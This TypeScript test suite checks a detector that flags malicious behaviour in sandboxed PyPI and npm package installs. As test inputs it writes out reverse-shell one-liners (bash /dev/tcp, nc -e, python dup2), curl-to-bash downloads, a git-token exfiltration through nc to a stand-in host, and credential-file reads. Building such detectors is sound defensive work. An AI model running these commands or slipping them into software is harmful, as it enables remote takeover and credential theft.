import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { BehaviourRecord } from '../../record/schema.ts';
import { cmd, conn, dep, dns, file, own, PIP, record, repoAllowlist } from '../_test-helpers.ts';
import { EMPTY_ALLOWLIST } from '../allowlist.ts';
import { evaluateRecord } from '../evaluate-record.ts';

const allowlist = repoAllowlist();

function rulesOf(r: BehaviourRecord): string[] {
  return [...new Set(evaluateRecord(r, { allowlist }).findings.map((f) => f.rule))].sort();
}

function finding(r: BehaviourRecord, rule: string) {
  return evaluateRecord(r, { allowlist }).findings.find((f) => f.rule === rule);
}

// --- network ---------------------------------------------------------------------------------

test('net.outbound fires on a connection during install and points at it', () => {
  const f = finding(
    record({ install: { connections: [conn('evil.example', '127.53.0.1', 443)] } }),
    'net.outbound',
  );
  assert.ok(f);
  assert.equal(f.phase, 'install');
  assert.equal(f.evidence[0]?.pointer, '/phases/install/connections/0');
  assert.match(f.evidence[0]?.text ?? '', /evil\.example/);
});

test('net.outbound fires on a DNS query without connection, also during import', () => {
  const f = finding(record({ import: { dns: [dns('lookup.example')] } }), 'net.outbound');
  assert.equal(f?.phase, 'import');
  assert.equal(f?.evidence[0]?.pointer, '/phases/import/dns/0');
});

test('net.outbound ignores traffic attributed to pip and names a dependency as culprit', () => {
  assert.deepEqual(
    rulesOf(record({ install: { connections: [conn('x.example', '1.2.3.4', 80, { by: [PIP] })] } })),
    [],
  );
  const f = finding(
    record({ install: { connections: [conn('x.example', '1.2.3.4', 80, { by: [dep('evil-dep')] })] } }),
    'net.outbound',
  );
  assert.deepEqual(f?.culprit, { kind: 'dependency', distribution: 'evil-dep' });
});

test('net.cloud-metadata fires on 169.254.169.254 and metadata.google.internal, not on other hosts', () => {
  assert.ok(
    finding(record({ install: { connections: [conn(null, '169.254.169.254', 80)] } }), 'net.cloud-metadata'),
  );
  assert.ok(finding(record({ install: { dns: [dns('metadata.google.internal')] } }), 'net.cloud-metadata'));
  assert.equal(
    finding(
      record({ install: { connections: [conn('example.org', '93.184.216.34', 80)] } }),
      'net.cloud-metadata',
    ),
    undefined,
  );
});

test('net.oob-service matches subdomains of listed services, not look-alike names', () => {
  assert.ok(finding(record({ install: { dns: [dns('abc123.oast.fun')] } }), 'net.oob-service'));
  assert.ok(
    finding(
      record({ install: { commands: [cmd(['curl', 'https://webhook.site/xyz'])] } }),
      'net.oob-service',
    ),
  );
  assert.equal(finding(record({ install: { dns: [dns('notoast.fun')] } }), 'net.oob-service'), undefined);
});

test('dns.tunnel fires on long encoded labels, not on long readable ones', () => {
  assert.ok(
    finding(
      record({ install: { dns: [dns('4a6f686e20446f653a2070617373776f7264.t.example')] } }),
      'dns.tunnel',
    ),
  );
  assert.ok(
    finding(record({ install: { dns: [dns('MFRGGZDFMZTWQ2LKNNWG23TPOBYXE43U.x.example')] } }), 'dns.tunnel'),
  );
  assert.equal(
    finding(
      record({ install: { dns: [dns('my-really-long-but-readable-service-name.example.com')] } }),
      'dns.tunnel',
    ),
    undefined,
  );
});

// --- canary ----------------------------------------------------------------------------------

test('canary.exfil is critical and makes the verdict malicious on its own', () => {
  const r = record({
    install: {
      canaries: [
        { canary: 'aws-credentials', how: 'sent', evidence: 'sent to tcp c.example:443: "AKIA..."' },
      ],
    },
  });
  const verdict = evaluateRecord(r, { allowlist });
  assert.equal(verdict.level, 'malicious');
  assert.equal(verdict.findings[0]?.rule, 'canary.exfil');
  assert.equal(verdict.findings[0]?.evidence[0]?.pointer, '/phases/install/canaries/0');
});

test('canary.read fires for package code but not when only allowlisted tools read the file', () => {
  const read = {
    canary: 'git-config-ci-token',
    how: 'read' as const,
    evidence: '/builds/app/.git/config opened for reading by pid 7',
  };
  assert.ok(finding(record({ install: { canaries: [read] } }), 'canary.read'));
  const git = cmd(['git', 'describe', '--tags'], { pid: 7 });
  assert.equal(finding(record({ install: { canaries: [read], commands: [git] } }), 'canary.read'), undefined);
});

test('an npm package that reads ~/.npmrc and never reaches the network: medium; with any traffic: malicious', () => {
  const npmrc = '/home/builder/.npmrc';
  const read = { canary: 'npmrc', how: 'read' as const, evidence: `${npmrc} opened for reading by pid 5` };
  const phase = { canaries: [read], files: [file(npmrc, ['read'], { by: [own()] })] };
  const asNpm = (r: BehaviourRecord): BehaviourRecord => ({
    ...r,
    package: { ...r.package, ecosystem: 'npm' },
  });
  // A config loader (global-prefix, rc) reading npm's config while the package is imported.
  const quiet = evaluateRecord(asNpm(record({ install: {}, import: phase })), { allowlist });
  assert.deepEqual(
    quiet.findings.map((f) => [f.rule, f.severity]),
    [['npm.npmrc-read', 'medium']],
  );
  assert.equal(quiet.level, 'clean');
  // The same read and a TLS connection anywhere in the record (the sinkhole cannot read the token).
  const sent = asNpm(
    record({ install: { connections: [conn('t.example', '127.53.0.1', 443)] }, import: phase }),
  );
  assert.deepEqual(rulesOf(sent), ['canary.read', 'net.outbound', 'npm.npmrc-read']);
  assert.equal(evaluateRecord(sent, { allowlist }).level, 'malicious');
  // Python code has no business reading npm's config: a PyPI record keeps canary.read.
  assert.ok(finding(record({ import: phase }), 'canary.read'));
});

test('canary.read finds the file itself when its directory was opened first', () => {
  const read = {
    canary: 'git-config-ci-token',
    how: 'read' as const,
    evidence: '/builds/app/.git/config opened for reading by pid 8',
  };
  const files = [
    file('/builds/app', ['read'], { by: [PIP] }),
    file('/builds/app/.git/config', ['read'], { pids: [8], by: [own('evil')] }),
  ];
  const f = finding(record({ install: { canaries: [read], files } }), 'canary.read');
  assert.deepEqual(f?.culprit, { kind: 'package', distribution: 'evil' });
});

// --- exec ------------------------------------------------------------------------------------

test('gcc, ld and distutils running the compiler through sh are clean; curl from setup.py fires', () => {
  const build = [
    cmd(['x86_64-linux-gnu-gcc', '-c', 'x.c', '-o', 'x.o']),
    cmd(['/usr/lib/gcc/x86_64-linux-gnu/12/cc1', '-quiet']),
    cmd(['as', '-o', 'x.o']),
    cmd(['/usr/bin/ld', '-o', 'x.so']),
    cmd(['sh', '-c', 'gcc -E conftest.c']),
    cmd(['git', 'describe', '--dirty', '--tags', '--long']),
    cmd(['uname', '-m']),
  ];
  const files = [file('/tmp/ccAbC123.s', ['write', 'create', 'delete'])];
  assert.equal(evaluateRecord(record({ install: { commands: build, files } }), { allowlist }).level, 'clean');
  assert.deepEqual(
    rulesOf(record({ install: { commands: [...build, cmd(['curl', '-s', 'http://x.example/a'])] } })),
    ['exec.tool'],
  );
});

test('a bare ps probe (pstree.remy, under nodemon) is allowlisted; ps with options is still recon', () => {
  const probe = [cmd(['/bin/sh', '-c', 'ps'], { by: own() }), cmd(['ps'], { by: own() })];
  assert.deepEqual(rulesOf(record({ import: { commands: probe } })), []);
  assert.deepEqual(rulesOf(record({ import: { commands: [cmd(['ps', 'aux'], { by: own() })] } })), [
    'recon.command',
  ]);
  assert.deepEqual(rulesOf(record({ import: { commands: [cmd(['sh', '-c', 'ps -ef'], { by: own() })] } })), [
    'exec.shell',
    'recon.command',
  ]);
  // A bare shell (commands on stdin) is no ps probe.
  assert.deepEqual(rulesOf(record({ import: { commands: [cmd(['sh'], { by: own() })] } })), ['exec.shell']);
});

test('without the allowlist the compiler run would be a finding (the allowlist is what clears it)', () => {
  const r = record({ install: { commands: [cmd(['sh', '-c', 'gcc -E conftest.c'])] } });
  assert.ok(evaluateRecord(r, { allowlist: EMPTY_ALLOWLIST }).findings.some((f) => f.rule === 'exec.shell'));
  assert.equal(evaluateRecord(r, { allowlist }).findings.length, 0);
});

test("npm's own sh -c that starts a lifecycle script is no shell finding; the shells the script starts are", () => {
  const npmRecord = (commands: ReturnType<typeof cmd>[]): BehaviourRecord => {
    const r = record({ install: { commands } });
    return { ...r, package: { ...r.package, ecosystem: 'npm' } };
  };
  const launcher = { kind: 'dependency', distribution: 'core-js', method: 'script-cwd' } as const;
  const script = cmd(['sh', '-c', 'node -e "try{require(\'./postinstall\')}catch(e){}"'], { by: launcher });
  assert.deepEqual(rulesOf(npmRecord([script, cmd(['node', '-e', 'x'], { by: dep('core-js') })])), []);
  const spawned = cmd(['/bin/sh', '-c', 'node build.js'], { by: dep('core-js') });
  assert.deepEqual(rulesOf(npmRecord([script, spawned])), ['exec.shell']);
  // A launcher that is no shell (npm never does this) is not hidden either.
  assert.deepEqual(rulesOf(npmRecord([cmd(['bash', '-i'], { by: launcher })])), ['exec.shell']);
});

test('commands attributed to pip never fire', () => {
  assert.deepEqual(
    rulesOf(record({ install: { commands: [cmd(['sh', '-c', 'curl x | sh'], { by: PIP })] } })),
    [],
  );
});

test('exec.tool sees nc inside a shell command line', () => {
  const f = finding(
    record({ install: { commands: [cmd(['sh', '-c', 'grep token .git/config | nc c.example 5566'])] } }),
    'exec.tool',
  );
  assert.match(f?.evidence[0]?.text ?? '', /^nc:/);
});

test('exec.reverse-shell: /dev/tcp, nc -e, python dup2, and sh -i whose parent connected', () => {
  const cases = [
    ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
    ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'],
    ['python3', '-c', 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'],
  ];
  for (const argv of cases)
    assert.ok(finding(record({ install: { commands: [cmd(argv)] } }), 'exec.reverse-shell'), argv.join(' '));
  const parent = cmd(['python3', 'setup.py'], { pid: 50 });
  const shell = cmd(['/bin/sh', '-i'], { pid: 51, ppid: 50 });
  const withConn = record({
    install: {
      commands: [parent, shell],
      connections: [conn('c2.example', '127.53.0.1', 4444, { pids: [50] })],
    },
  });
  assert.equal(evaluateRecord(withConn, { allowlist }).level, 'malicious');
  const noConn = record({ install: { commands: [parent, shell] } });
  assert.equal(finding(noConn, 'exec.reverse-shell'), undefined);
});

test('exec.download-execute: a written file run by python is critical with network, high without', () => {
  const files = [file('/tmp/malicious.py', ['write', 'create', 'read'])];
  const commands = [cmd(['/opt/venv/bin/python', '/tmp/malicious.py'])];
  const networked = finding(
    record({ install: { files, commands, connections: [conn('gist.example', '127.53.0.1', 80)] } }),
    'exec.download-execute',
  );
  assert.equal(networked?.severity, 'critical');
  assert.deepEqual(
    networked?.evidence.map((e) => e.pointer),
    ['/phases/install/files/0', '/phases/install/commands/0'],
  );
  assert.equal(finding(record({ install: { files, commands } }), 'exec.download-execute')?.severity, 'high');
  // Written but never run, or run but never written by the package: no finding.
  assert.equal(finding(record({ install: { files } }), 'exec.download-execute'), undefined);
  assert.equal(finding(record({ install: { commands } }), 'exec.download-execute'), undefined);
});

test('exec.download-execute: curl piped to sh', () => {
  assert.equal(
    finding(
      record({ install: { commands: [cmd(['sh', '-c', 'curl -fsSL http://x.example/i.sh | bash'])] } }),
      'exec.download-execute',
    )?.severity,
    'critical',
  );
});

// --- persistence, recon, tamper, survivors ---------------------------------------------------

test('persistence: .bashrc, authorized_keys, crontab, sitecustomize fire; reading them does not', () => {
  assert.ok(
    finding(
      record({ install: { files: [file('/home/builder/.bashrc', ['write'])] } }),
      'persist.shell-startup',
    ),
  );
  assert.ok(
    finding(
      record({ install: { files: [file('/home/builder/.ssh/authorized_keys', ['write', 'create'])] } }),
      'persist.ssh-keys',
    ),
  );
  assert.ok(finding(record({ install: { commands: [cmd(['crontab', '/tmp/x'])] } }), 'persist.cron'));
  assert.ok(
    finding(
      record({ install: { files: [file('/usr/lib/python3/dist-packages/sitecustomize.py', ['create'])] } }),
      'persist.python-startup',
    ),
  );
  assert.equal(
    finding(
      record({ install: { files: [file('/home/builder/.bashrc', ['read'])] } }),
      'persist.shell-startup',
    ),
    undefined,
  );
  assert.equal(
    finding(record({ install: { commands: [cmd(['crontab', '-l'])] } }), 'persist.cron'),
    undefined,
  );
});

test('recon.command: one command medium, several high; uname -m from a build is allowlisted', () => {
  assert.equal(
    finding(record({ install: { commands: [cmd(['whoami'])] } }), 'recon.command')?.severity,
    'medium',
  );
  assert.equal(
    finding(
      record({ install: { commands: [cmd(['whoami']), cmd(['sh', '-c', 'id; hostname'])] } }),
      'recon.command',
    )?.severity,
    'high',
  );
  assert.equal(
    finding(record({ install: { commands: [cmd(['uname', '-m'])] } }), 'recon.command'),
    undefined,
  );
  assert.ok(finding(record({ install: { commands: [cmd(['uname', '-a'])] } }), 'recon.command'));
});

test('recon.account-files: /etc/shadow high, /etc/passwd low', () => {
  assert.equal(
    finding(record({ install: { files: [file('/etc/shadow', ['read'])] } }), 'recon.account-files')?.severity,
    'high',
  );
  assert.equal(
    finding(record({ install: { files: [file('/etc/passwd', ['read'])] } }), 'recon.account-files')?.severity,
    'low',
  );
});

test('tamper: deleting /usr/bin/ls and truncating /var/log fire; reading them does not', () => {
  assert.ok(
    finding(record({ install: { files: [file('/usr/bin/ls', ['delete'])] } }), 'tamper.system-binary'),
  );
  assert.ok(finding(record({ install: { files: [file('/var/log/auth.log', ['write'])] } }), 'tamper.logs'));
  assert.deepEqual(rulesOf(record({ install: { files: [file('/usr/bin/ls', ['read'])] } })), []);
});

test('fs.chmod-exec: chmod 0755 in /tmp fires, chmod 0644 does not, /builds/app does not', () => {
  assert.ok(
    finding(
      record({ install: { files: [file('/tmp/x', ['chmod'], { flags: ['mode 0755'] })] } }),
      'fs.chmod-exec',
    ),
  );
  assert.equal(
    finding(
      record({ install: { files: [file('/tmp/x', ['chmod'], { flags: ['mode 0644'] })] } }),
      'fs.chmod-exec',
    ),
    undefined,
  );
  assert.equal(
    finding(
      record({ install: { files: [file('/srv/x', ['chmod'], { flags: ['mode 0755'] })] } }),
      'fs.chmod-exec',
    ),
    undefined,
  );
  assert.ok(
    finding(record({ install: { commands: [cmd(['chmod', '+x', '/tmp/payload'])] } }), 'fs.chmod-exec'),
  );
});

test('proc.survivor fires for a process that outlived the install', () => {
  const f = finding(
    record({ install: { survivors: [{ pid: 77, argv: ['python3', '-c', 'while 1: pass'], killed: true }] } }),
    'proc.survivor',
  );
  assert.equal(f?.evidence[0]?.pointer, '/phases/install/survivors/0');
});

test('the culprit comes from `by`: a dependency reading a canary is named', () => {
  const r = record({
    install: {
      files: [file('/home/builder/.aws/credentials', ['read'], { by: [dep('evil-dep')] })],
      canaries: [
        {
          canary: 'aws',
          how: 'read',
          evidence: '/home/builder/.aws/credentials opened for reading by pid 5',
        },
      ],
      commands: [cmd(['whoami'], { by: own() })],
    },
  });
  assert.deepEqual(finding(r, 'canary.read')?.culprit, { kind: 'dependency', distribution: 'evil-dep' });
  assert.deepEqual(finding(r, 'recon.command')?.culprit, { kind: 'package', distribution: 'pkg' });
});

test('tamper.system-binary covers the Python standard library and refused writes; byte-code caches do not count', () => {
  const refused = {
    ...file('/usr/lib/python3.11/os.py', ['write']),
    failed: 1,
    errors: ['EACCES'],
  };
  const f = finding(record({ install: { files: [refused] } }), 'tamper.system-binary');
  assert.ok(f, 'a refused write to the stdlib is an attempt');
  assert.match(f.evidence[0]?.text ?? '', /refused: EACCES/);
  const readOnlyFs = { ...file('/usr/local/bin/pip', ['create', 'write']), failed: 1, errors: ['EROFS'] };
  assert.ok(finding(record({ install: { files: [readOnlyFs] } }), 'tamper.system-binary'));
  const pyc = {
    ...file('/usr/lib/python3.11/__pycache__/os.cpython-311.pyc.1402', ['create', 'write']),
    failed: 1,
    errors: ['EACCES'],
  };
  assert.deepEqual(rulesOf(record({ install: { files: [pyc] } })), []);
  assert.deepEqual(
    rulesOf(record({ install: { files: [file('/usr/lib/python3.11/os.py', ['read'])] } })),
    [],
  );
});
